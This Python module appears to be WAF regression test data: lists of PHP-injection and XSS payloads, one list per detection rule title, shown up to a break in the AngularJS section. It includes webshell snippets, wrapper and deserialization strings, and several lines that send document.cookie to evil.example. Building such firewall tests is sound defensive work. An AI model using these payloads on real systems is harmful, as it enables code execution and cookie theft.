"""Blind set "ninetieth": the positive regression tests a ninth rule author writes for the PHP-injection and XSS
request-rule titles of CRS 3.3.4 (paranoia levels 1 and 2) and the later 4.x titles, from the titles alone, with
a benign half that carries the same words as users and developers type them.

Angle. For each detection title: the canonical attack the title names, then one test per alternative of its family
(every open tag, directive, superglobal, stream, wrapper, function, serialized form, tag, event handler, attribute,
URI scheme, IE filter shape, encoding trick and obfuscation the author knows), then the variants a good rule must
still catch: other quoting and casing, whitespace and comment substitutes, concatenation, and the encodings a
server decodes (URL, double URL, HTML entities, unicode escapes in JSON). Payloads are written as they appear in
real attacks on PHP CMSs, Java apps, Node APIs, CGI scripts and IIS, not only ours.

Families and sub-families (one sub-family per title, kebab-case from the title; the eleven identical "IE XSS
Filters" titles and the two "Variable Function Call" titles are told apart by the shape each covers):
- php: php-open-tag, php-script-file-upload, php-configuration-directive, php-variables, php-io-stream,
  php-wrapper-scheme, php-high-risk-function-name, php-high-risk-function-call, php-serialized-object-injection,
  php-variable-function-call, php-variable-function-call-string-callee, php-medium-risk-function-name.
- xss: xss-libinjection, xss-libinjection-referer-path (the PL2 twin), xss-script-tag-vector,
  xss-event-handler-vector, xss-attribute-vector, xss-javascript-uri-vector, noscript-html-injection,
  noscript-attribute-injection, node-validator-blacklist-keywords, ie-xss-style-import-expression,
  ie-xss-vmlframe, ie-xss-obfuscated-javascript, ie-xss-obfuscated-vbscript, ie-xss-embed,
  ie-xss-import-implementation, ie-xss-meta-http-equiv, ie-xss-meta-charset, ie-xss-link-href, ie-xss-base-href,
  ie-xss-applet, ie-xss-object, us-ascii-malformed-encoding-xss, utf7-encoding-ie-xss,
  jsfuck-hieroglyphy-obfuscation, javascript-global-variable, xss-disallowed-html-attributes, html-tag-handler,
  ie-xss-quote-property-assignment, ie-xss-quote-bracket-assignment, angularjs-template-injection,
  javascript-method-detected, xss-function-without-parentheses.

Placements. Each payload is sent twice. Once to our real routes, rotating: query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, another header (X-Comment),
a parameter name, an XML body, a multipart field or filename, the URL path. Once the way a WAF's regression suite
sends it, to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1): a query string (loosely quoted),
a bare query string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value, the
User-Agent, the Referer, a custom header (X-Test) or a cookie; those placements are prefixed "rs-". Payloads
already URL-encoded go where a server URL-decodes them (query, form, cookie, header, path), payloads written with
JSON unicode escapes go in JSON bodies unescaped, file names go in multipart file names and X-Filename headers,
and the PL2 libinjection twin goes in the Referer and the URL path (the places it covers).

Authorship and independence. Written for this repository from general knowledge of each family and the rule
titles alone: no rule, ruleset regression test, other blind set or public payload list was read, and nothing was
changed after measuring. The set was measured once, on unchanged code. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import print_records

NAME = "ninetieth"

JSON_MARK = "JSON:"   # a payload written with JSON unicode escapes: it goes unescaped into JSON bodies

# --- PHP ------------------------------------------------------------------------------------------------------

PHP_OPEN_TAG = [
    "<?php system($_GET['cmd']); ?>",
    "<?= shell_exec('id') ?>",
    "<? passthru(\"uname -a\"); ?>",
    "<?PHP echo file_get_contents('/etc/passwd');",
    "<?php\n@eval($_POST['x']);\n?>",
    "GIF89a;<?php phpinfo(); ?>",
    "[php]echo 'pwned';[/php]",
    "<script language=\"php\">system(\"id\");</script>",
    "<?php /**/ eval /**/ (base64_decode('cGhwaW5mbygpOw=='));",
    "%3C%3Fphp%20system%28%27id%27%29%3B%20%3F%3E",
    "%253C%253Fphp%2520phpinfo()%253B%2520%253F%253E",
    "&lt;?php echo md5('x'); ?&gt;",
    JSON_MARK + "\\u003c?php system('id'); ?\\u003e",
    "<?php\tfile_put_contents('s.php', $_REQUEST['c']);",
]

PHP_UPLOAD_NAMES = [
    "shell.php",
    "avatar.jpg.php",
    "cmd.phtml",
    "backdoor.php5",
    "x.php7",
    "old.php3",
    "legacy.php4",
    "wso.PhP",
    "c99.pht",
    "r57.phar",
    "source.phps",
    "shell.php.",
    "image.php%00.jpg",
    "webshell.php;.jpg",
    "../../var/www/html/up.php",
    "shell.php::$DATA",
]

PHP_CONFIG = [
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "auto_append_file=/etc/passwd",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "register_globals=on",
    "allow_url_fopen = 1",
    "suhosin.simulation=1",
    "error_log=/var/www/html/log.php",
    "php_value auto_prepend_file \"/tmp/sess_x\"",
    "enable_dl=On",
    "magic_quotes_gpc=off",
    "%2Dd+allow_url_include%3D1+%2Dd+auto_prepend_file%3Dphp%3A%2F%2Finput",
]

PHP_VARIABLES = [
    "$_GET['cmd']",
    "$_POST[x]",
    "$_COOKIE['sess']",
    "$_REQUEST[\"a\"]",
    "$_SERVER['HTTP_USER_AGENT']",
    "$_ENV['PATH']",
    "$_FILES['f']['tmp_name']",
    "$_SESSION['is_admin']=1",
    "$GLOBALS['config']",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_GET_VARS['id']",
    "$http_response_header",
    "$php_errormsg",
    "$argv[1]",
    "%24_GET%5B%27c%27%5D",
]

PHP_IO_STREAM = [
    "php://input",
    "php://stdin",
    "php://stdout",
    "php://stderr",
    "php://output",
    "php://fd/3",
    "php://memory",
    "php://temp/maxmemory:1024",
    "php://filter/convert.base64-encode/resource=config.php",
    "php://filter/read=string.toupper|string.rot13/resource=index.php",
    "PHP://Input",
    "php%3A%2F%2Finput",
    "php%253A%252F%252Ffilter%252Fresource%253Dwp-config.php",
]

PHP_WRAPPER = [
    "zlib:///etc/passwd",
    "compress.zlib://../../config.inc.php",
    "compress.bzip2:///tmp/x.bz2",
    "glob:///var/www/html/*",
    "phar://uploads/avatar.jpg/x.php",
    "Phar:///tmp/upload/logo.gif",
    "zip://uploads/archive.zip#shell.php",
    "zip://uploads/archive.zip%23shell.php",
    "expect://id",
    "ssh2.shell://user:pass@example.com:22/xterm",
    "ssh2.exec://user:pass@example.com:22/usr/bin/id",
    "ssh2.tunnel://user:pass@example.com:22/10.0.0.5:80",
    "ssh2.sftp://user:pass@example.com:22/etc/passwd",
    "rar://uploads/a.rar#x.php",
    "ogg://uploads/track.ogg",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpPz4=",
]

PHP_HIGH_RISK_NAMES = [
    "shell_exec",
    "passthru",
    "proc_open",
    "popen",
    "pcntl_exec",
    "phpinfo",
    "create_function",
    "base64_decode",
    "gzuncompress",
    "str_rot13",
    "file_put_contents",
    "fsockopen",
    "call_user_func_array",
    "Shell_Exec",
    "shell%5Fexec",
]

PHP_HIGH_RISK_CALLS = [
    "system('id')",
    "exec(\"whoami\")",
    "shell_exec ('ls -la')",
    "passthru/**/(\"id\")",
    "eval($_POST[1])",
    "assert(base64_decode('cGhwaW5mbygp'))",
    "popen(\"id\", \"r\")",
    "proc_open('id', array(), $p)",
    "phpinfo()",
    "SYSTEM(\"cat /etc/passwd\")",
    "preg_replace('/a/e', 'system(\"id\")', 'a')",
    "'.system('id').'",
    "${system('id')}",
    "%73ystem%28%27id%27%29",
    "system%2528%2527id%2527%2529",
    JSON_MARK + "\\u0073ystem(\\u0027id\\u0027)",
]

PHP_SERIALIZED = [
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    "O:+8:\"stdClass\":0:{}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    "a:1:{i:0;O:4:\"Evil\":0:{}}",
    "o:4:\"User\":1:{s:5:\"admin\";b:1;}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"\\0*\\0events\";O:1:\"X\":0:{}}",
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";N;}",
    "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}",
    "O:4:\"Test\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
    "O%253A4%253A%2522User%2522%253A0%253A%257B%257D",
    "O : 4 : \"User\" : 0 : { }",
    "a:2:{i:0;s:1:\"x\";i:1;C:16:\"SplObjectStorage\":8:{x:i:0;}}",
]

PHP_VAR_CALL = [
    "$a('id')",
    "$x='system';$x('id');",
    "$_GET['f']($_GET['c'])",
    "${'_GET'}['f']()",
    "$a[0]('whoami')",
    "$cb ( 'ls' )",
    "$c/**/('whoami')",
    "@$_POST['x']($_POST['y'])",
    "$func\t(\"id\")",
    "$_REQUEST[a]($_REQUEST[b])",
    "$$name('id')",
    "$f{0}('id')",
    "%24f%28%27id%27%29",
    JSON_MARK + "\\u0024a(\\u0027id\\u0027)",
]

PHP_STRING_CALLEE = [
    "('system')('id')",
    "\"sys\".\"tem\"(\"id\")",
    "('sy'.'stem')('id')",
    "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id')",
    "(\"\\163\\171\\163\\164\\145\\155\")(\"id\")",
    "(str_rot13('flfgrz'))('id')",
    "['system'][0]('id')",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
    "(strrev('metsys'))('id')",
    "'sys'.'tem'/**/('id')",
    "(base64_decode('c3lzdGVt'))('id')",
    "(implode('',['sys','tem']))('id')",
    "%28%27system%27%29%28%27id%27%29",
    "(\"Sys\".\"tem\") (\"id\")",
]

PHP_MEDIUM_NAMES = [
    "fwrite",
    "chmod",
    "unlink",
    "symlink",
    "putenv",
    "ini_set",
    "posix_getpwuid",
    "move_uploaded_file",
    "stream_socket_client",
    "curl_exec",
    "ftp_connect",
    "parse_str",
    "fputs",
    "tempnam",
    "Chmod",
]

# --- XSS ------------------------------------------------------------------------------------------------------

XSS_LIBINJECTION = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(document.domain)>",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    JSON_MARK + "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

XSS_LIBINJECTION_PL2 = [
    "https://www.google.com/search?q=\"><script>alert(1)</script>",
    "http://evil.example/<svg onload=alert(1)>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "'><script>alert(1)</script>",
    "<script>alert(document.domain)</script>",
    "javascript:alert(1)//",
    "<img src=x onerror=prompt(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe onload=alert(1)>",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
]

XSS_SCRIPT_TAG = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<script type=\"text/javascript\">alert(1)</script>",
    "<script\t>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
    "<script language=\"vbscript\">MsgBox 1</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "%3Cscript%3Ealert%281%29%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    JSON_MARK + "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<script\n>alert(1)</script\n>",
]

XSS_EVENT_HANDLER = [
    "<img src=x onerror=alert(1)>",
    "<body onload=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "<div onpointerenter=alert(1)>hover</div>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a onclick = \"alert(1)\">x</a>",
    "<form onsubmit=alert(1)><button>go</button></form>",
    "<img src=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "<div style=\"animation-name:x\" onanimationstart=alert(1)>",
]

XSS_ATTRIBUTE_VECTOR = [
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form><input type=submit formaction=\"javascript:alert(1)\"></form>",
    "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>x</body></html>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    "<!ENTITY % ext PUBLIC \"-//x//y\" \"http://evil.example/x.dtd\">",
    "<style>@import 'http://evil.example/x.css';</style>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<input pattern=\"^((a+.)a)+$\" value=\"aaaaaaaaaaaaaaaaaaaaaaaa!\">",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "%3Cbutton%20formaction%3Djavascript%3Aalert(1)%3Ex%3C/button%3E",
]

XSS_JS_URI = [
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<div style=\"background:url('javascript:alert(1)')\">",
    "<li style=\"list-style-image:url(javascript:alert(1))\">x</li>",
    "x=a:b;background:url(javascript:alert(1))",
    "<table background=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
    "javascript://%0aalert(1)",
    "<object data=\"javascript:alert(1)\"></object>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<base href=\"javascript:/a/-alert(1)///////\">",
    "%3Cdiv%20style%3D%22background%3Aurl(javascript%3Aalert(1))%22%3E",
    "<span style=\"cursor:url(javascript:alert(1)),auto\">x</span>",
]

NOSCRIPT_HTML = [
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example/login><input name=pw type=password></form>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=Evil.class></applet>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
    "<style>body{display:none}</style>",
    "<link rel=import href=//evil.example/x.html>",
    "<frameset><frame src=//evil.example></frameset>",
    "<svg><script>alert(1)</script></svg>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "%3Ciframe%20src%3D%2F%2Fevil.example%3E",
]

NOSCRIPT_ATTRIBUTE = [
    "\" style=\"x:expression(alert(1))",
    "\" href=\"javascript:alert(1)",
    "' src='data:text/html,<script>alert(1)</script>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "\" style=\"-moz-binding:url(//evil.example/x.xml#xss)",
    "<span style=\"behavior:url(//evil.example/x.htc)\">x</span>",
    "x\" onmouseover=alert(1) y=\"",
    "<div style=\"background:url(&#1;javascript:alert(1))\">",
    "\" formaction=\"javascript:alert(1)",
    "<img src=vbscript:msgbox(1)>",
    "\" srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "%22%20style%3D%22x%3Aexpression(alert(1))",
]

NODE_VALIDATOR = [
    "\"+document.cookie+\"",
    "';document.write('<img src=//evil.example/?c='+escape(document.cookie)+'>')//",
    "x.parentNode.removeChild(x)",
    "el.innerHTML='<img src=x onerror=alert(1)>'",
    "window.location='//evil.example'",
    "window.location.href=\"https://evil.example/\"",
    "-moz-binding:url(http://evil.example/xss.xml#x)",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "DOCUMENT.COOKIE",
    "document%2Ecookie",
    JSON_MARK + "document\\u002ecookie",
    "new Image().src='//evil.example/?'+document.cookie",
]

IE_STYLE = [
    "<style>@import'//evil.example/x.css';</style>",
    "<STYLE>body{background:url(\"javascript:alert(1)\")}</STYLE>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<style type=\"text/css\">@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<style>@\\0069mport 'x.css';</style>",
    "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    "<style>a{background:\\75rl(javascript:alert(1))}</style>",
    "<style>*{behavior:url(#default#time2)}</style>",
    "<style>div{width:e\\xpression(alert(1))}</style>",
    "<style>@import url(data:,*%7bx:expression(alert(1))%7D);</style>",
    "%3Cstyle%3E%40import%20%27%2F%2Fevil.example%2Fx.css%27%3B%3C%2Fstyle%3E",
]

IE_VMLFRAME = [
    "<v:vmlframe src=\"//evil.example/x.vml#x\">",
    "<vmlframe src=evil.vml>",
    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"x.vml#x\"/>",
    "<v:vmlframe  src = \"javascript:alert(1)\">",
    "<V:VMLFRAME SRC=\"http://evil.example/a.vml#xss\">",
    "<x:vmlframe/src=//evil.example/b.vml#y>",
    "<v:vmlframe\tsrc=\"x.vml\">",
    "%3Cv%3Avmlframe%20src%3D%22%2F%2Fevil.example%2Fx.vml%23x%22%3E",
    "\"><v:vmlframe src=//evil.example/c.vml#z>",
]

IE_OBF_JS = [
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"j&#0000097;vascript:alert(1)\">x</a>",
    "<img src=\"java\tscript:alert(1)\">",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"javas&#99;ript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6a;avascript&#x3a;alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<iframe src=\"jav&#13;ascript:alert(1)\">",
    "%6Aavascript:alert(1)",
    "<a href=\"&#74;avascript:alert(1)\">x</a>",
]

IE_OBF_VBS = [
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<img src=\"vb&#x09;script:msgbox(1)\">",
    "<a href=\"&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;:msgbox(1)\">x</a>",
    "<a href=\"&#x76;&#x62;script:Execute(MsgBox(1))\">x</a>",
    "VBScript:MsgBox(\"XSS\")",
    "<iframe src=\"vbs&#99;ript:msgbox(1)\">",
    "<a href=vbscript&#58;msgbox(1)>x</a>",
    "%76bscript:msgbox(1)",
    "<body background=\"vbscript:msgbox(1)\">",
    "<a href=\"v&#98;script:msgbox(document.cookie)\">x</a>",
    "<img src=\"vb\tscript:msgbox(1)\">",
]

IE_EMBED = [
    "<embed src=\"//evil.example/x.swf\">",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
    "<embed type=\"application/x-shockwave-flash\" src=x.swf allowscriptaccess=always>",
    "<embed/src=javascript:alert(1)>",
    "<embed code=x.swf>",
    "<embed\tsrc=\"x.swf\">",
    "<EmBeD src=//evil.example/p.pdf>",
    "<embed height=1 width=1 src=\"http://evil.example/xss.swf\"></embed>",
    "%3Cembed%20src%3D%2F%2Fevil.example%2Fx.swf%3E",
    "\"><embed src=//evil.example/y.swf>",
]

IE_IMPORT = [
    "<import implementation=\"http://evil.example/x.htc\">",
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<IMPORT NAMESPACE=\"xss\" IMPLEMENTATION=\"//evil.example/xss.htc\">",
    "<html><?import namespace=x implementation=x.htc><x:x>",
    "<import/implementation=//evil.example/a.htc>",
    "<?import implementation = \"javascript:alert(1)\">",
    "<import namespace=\"v\" implementation=\"#default#VML\">",
    "%3C%3Fimport%20implementation%3D%22x.htc%22%3E",
    "<?import\tnamespace=\"t\"\timplementation=\"#default#time2\">",
]

IE_META_EQUIV = [
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<script>alert(1)</script>\">",
    "<meta http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",
    "<meta http-equiv=refresh content=\"0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta http-equiv=\"&#114;efresh\" content=\"0;url=//evil.example\">",
    "<meta/http-equiv=Refresh/content=0;url=//evil.example>",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<meta name=x http-equiv='set-cookie' content='a=b'>",
    "%3Cmeta%20http-equiv%3Drefresh%20content%3D%220%3Burl%3D%2F%2Fevil.example%22%3E",
    "<meta  http-equiv = \"refresh\" content=\"1\">",
]

IE_META_CHARSET = [
    "<meta charset=\"utf-7\">",
    "<META CHARSET=UTF-7>",
    "<meta charset=x-imap4-modified-utf7>",
    "<meta content=\"text/html\" charset=\"iso-2022-jp\">",
    "<meta/charset=utf-7>",
    "<meta  charset = \"shift_jis\">",
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
    "%3Cmeta%20charset%3Dutf-7%3E",
    "\"><meta charset=utf-16be>",
]

IE_LINK = [
    "<link rel=\"stylesheet\" href=\"//evil.example/x.css\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<link href=\"http://evil.example/xss.css\" rel=stylesheet>",
    "<link/rel=prefetch/href=//evil.example>",
    "<link rel=\"icon\" href=\"javascript:alert(1)\">",
    "<link rel=preload as=script href=//evil.example/a.js>",
    "%3Clink%20rel%3Dstylesheet%20href%3D%2F%2Fevil.example%2Fx.css%3E",
    "\"><link rel=stylesheet href=//evil.example/y.css>",
]

IE_BASE = [
    "<base href=\"//evil.example/\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<base href=http://evil.example/ target=_blank>",
    "<base/href=//evil.example>",
    "<base target=\"x\" href=\"data:text/html,x\">",
    "<base  href = \"https://evil.example/static/\">",
    "%3Cbase%20href%3D%2F%2Fevil.example%2F%3E",
    "\"><base href=//evil.example/>",
    "<base\thref=//evil.example/>",
]

IE_APPLET = [
    "<applet code=\"Evil.class\" codebase=\"//evil.example/\">",
    "<APPLET CODE=Exploit.class ARCHIVE=x.jar>",
    "<applet>",
    "<applet/code=x>",
    "<applet code=\"javascript:alert(1)\"></applet>",
    "<applet archive=\"http://evil.example/a.jar\" code=\"A\">",
    "\"><applet code=x>",
    "%3Capplet%20code%3Dx.class%3E",
    "<applet\tcode=x>",
]

IE_OBJECT = [
    "<object data=\"javascript:alert(1)\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//evil.example/x.html\"></OBJECT>",
    "<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\">",
    "<object codetype=\"application/java\" code=\"Evil.class\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<object/data=//evil.example/x.swf>",
    "<object type=\"application/x-shockwave-flash\" data=\"x.swf\"><param name=allowscriptaccess value=always>",
    "<object width=1 classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><param name=\"DataURL\" value=\"x\">",
    "%3Cobject%20data%3D%22javascript%3Aalert(1)%22%3E",
    "<object\ttype=\"text/html\" data=\"//evil.example/\">",
]

US_ASCII = [
    "%BCscript%BEalert(1)%BC/script%BE",
    "%BCscript%BEalert(%A2XSS%A2)%BC/script%BE",
    "%BCimg src=x onerror=alert(1)%BE",
    "%BCsvg onload=alert(1)%BE",
    "x%BCscript%BE",
    "%BC/title%BE%BCscript%BEalert(1)%BC/script%BE",
    "%BCiframe src=javascript:alert(1)%BE",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    JSON_MARK + "\\u00bcscript\\u00bealert(1)\\u00bc/script\\u00be",
    "%bcscript%bealert(document.cookie)%bc/script%be",
]

UTF7 = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
    "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADw-/script+AD4-",
    "+ADw-svg onload+AD0-alert(1)+AD4-",
    "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
    "%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
    "+ADw-SCRIPT+AD4-alert(document.cookie)+ADw-/SCRIPT+AD4-",
    "x+ADw-script+AD4-",
]

JSFUCK = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "(![]+[])[+[]]",
    "!![]+!![]",
    "(+[![]]+[][[]])[+!+[]+[+[]]]",
    "([]+{})[+!![]]",
    "(+{}+[])[+[]]",
    "[!+[]+!+[]]",
    "[][(![]+[])[+!+[]]]",
    "(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]]",
    "[]['filter']['constructor']('alert(1)')()",
    "%5B%5D%5B(!%5B%5D%2B%5B%5D)%5B%2B%5B%5D%5D%5D",
    "(_=!![]+[],_[+[]])",
]

JS_GLOBAL = [
    "window[\"alert\"](1)",
    "self['al'+'ert'](1)",
    "top[\"ale\"+\"rt\"](document[\"cookie\"])",
    "parent['eval']('alert(1)')",
    "this[\"alert\"]('x')",
    "frames['alert'](1)",
    "globalThis['alert'](1)",
    "window/**/[\"alert\"](1)",
    "document['cookie']",
    "self [ 'alert' ] ( 1 )",
    "window[atob('YWxlcnQ=')](1)",
    "top[/al/.source+/ert/.source](1)",
    "window%5B%22alert%22%5D(1)",
    JSON_MARK + "\\u0077indow['alert'](1)",
]

XSS_DISALLOWED_ATTR = [
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<div datasrc=#x datafld=y dataformatas=html></div>",
    "<span style=\"behavior:url(#default#VML)\">x</span>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<div style=\"background:url(//evil.example/x.png)\">",
    "<a href=\"//evil.example\">click</a>",
    "<img src=//evil.example/t.gif>",
    "<body background=\"javascript:alert(1)\">",
    "<td background=javascript:alert(1)>",
    "<bgsound src=\"javascript:alert(1)\">",
    "<xml src=\"//evil.example/x.xml\" id=x></xml>",
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%",
    "%3Cimg%20dynsrc%3D%22javascript%3Aalert(1)%22%3E",
]

HTML_TAG_HANDLER = [
    "<a href=//evil.example>win a prize</a>",
    "<abbr title=x onmouseover=alert(1)>x</abbr>",
    "<audio src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>bold</b>",
    "<bgsound src=//evil.example/x.wav>",
    "<br size=\"&{alert(1)}\">",
    "<button onclick=alert(1)>x</button>",
    "<div style=\"width:expression(alert(1))\">",
    "<font color=red>hacked</font>",
    "<frame src=//evil.example>",
    "<h1>defaced</h1>",
    "<layer src=//evil.example/x.html></layer>",
    "<marquee>hacked</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
]

IE_QUOTE_PROP = [
    "\";location.href=\"//evil.example\";\"",
    "'; document.location = 'http://evil.example/?' + document.cookie; '",
    "\";document.body.innerHTML=\"x\";//",
    "\"; window.name = 'x'; \"",
    "'};top.location.href='//evil.example';{'",
    "\";self.location=\"javascript:alert(1)\";//",
    "'+(document.domain='example.com')+'",
    "\";window.onerror=alert;throw 1;//",
    "'; a.b = 1 //",
    "%22%3Bdocument.location%3D%22//evil.example%22%3B%22",
    "' ; x.src = '//evil.example/?' + document.cookie ; '",
]

IE_QUOTE_BRACKET = [
    "\"];window[\"location\"]=\"//evil.example\";//",
    "'; this['location']='javascript:alert(1)';//",
    "\"; top[\"location\"]=\"//evil.example\";\"",
    "'; document['location'] = 'http://evil.example/'; '",
    "\"}; self['onerror']=eval; throw '=alert(1)'; {\"",
    "\"; a.b[c] = d; \"",
    "'-(window['name']='x')-'",
    "\";x[\"innerHTML\"]=\"<img src=x onerror=alert(1)>\";//",
    "%27%3Bdocument%5B%27location%27%5D%3D%27//evil.example%27%3B%27",
    "'];parent['location']='//evil.example';//",
]

ANGULAR = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{7*7}}",
    "{{[].pop.constructor('alert(1)')()}}",
